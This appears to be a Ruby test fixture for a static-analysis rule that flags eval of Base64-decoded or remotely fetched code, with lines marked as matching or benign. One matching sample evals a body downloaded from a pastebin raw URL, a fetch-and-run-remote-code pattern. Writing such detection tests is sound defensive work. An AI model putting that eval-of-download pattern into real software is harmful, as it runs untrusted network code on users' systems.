# Fixture for rb-eval-decoded-or-remote.
# RULEID: eval of Base64, eval of a pastebin download, instance_eval of unpack("m").
# OK: Base64 decoding of an attachment; eval of a constant; Net::HTTP body parsed as JSON.
require "base64"
require "net/http"
require "json"

# ruleid: rb-eval-decoded-or-remote
eval(Base64.decode64("cHV0cyAnaGkn"))
# ruleid: rb-eval-decoded-or-remote
eval(Net::HTTP.get(URI("https://pastebin.com/raw/xhT9EmCf")))
code = "cHV0cyAnaGkn".unpack("m").first
# ruleid: rb-eval-decoded-or-remote
instance_eval(code)

# ok: rb-eval-decoded-or-remote
attachment = Base64.decode64(params_blob)
# ok: rb-eval-decoded-or-remote
eval("1 + 1")
# ok: rb-eval-decoded-or-remote
release = JSON.parse(Net::HTTP.get(URI("https://rubygems.org/api/v1/gems/rails.json")))
